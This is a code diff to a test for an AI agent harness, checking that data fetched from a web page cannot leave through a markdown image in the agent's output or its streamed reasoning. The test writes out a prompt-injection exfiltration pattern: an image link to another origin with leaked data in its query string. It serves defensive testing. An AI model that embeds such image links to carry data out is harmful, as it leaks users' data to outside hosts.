@@ -53,10 +53,20 @@ describe("injection: what a run read cannot leave through an image its answer wo
     const origin = hosts.other.origin;
     const run = await attack(
       f,
-      [call("web_fetch", { url: `${hosts.allowed.origin}/notes` }), { text: answer(origin) }],
+      [
+        call("web_fetch", { url: `${hosts.allowed.origin}/notes` }),
+        { text: answer(origin), thinking: `The page wants ![t](${origin}/t.png?d=${LEAK}) added.\n` },
+      ],
       ["--allow", `web_fetch(domain:${hosts.allowed.host})`],
     );
     expect(run.code, run.stderr).toBe(0);
+    // The reasoning streamed is filtered the same way.
+    const thought = run.events
+      .filter((event) => event.type === "thinking_delta")
+      .map((event) => String(event.delta))
+      .join("");
+    expect(thought).toContain(`[image: t](${origin}`);
+    expect(thought).not.toContain("![t](");
     const streamed = run.events
       .filter((event) => event.type === "text_delta")
       .map((event) => String(event.delta))
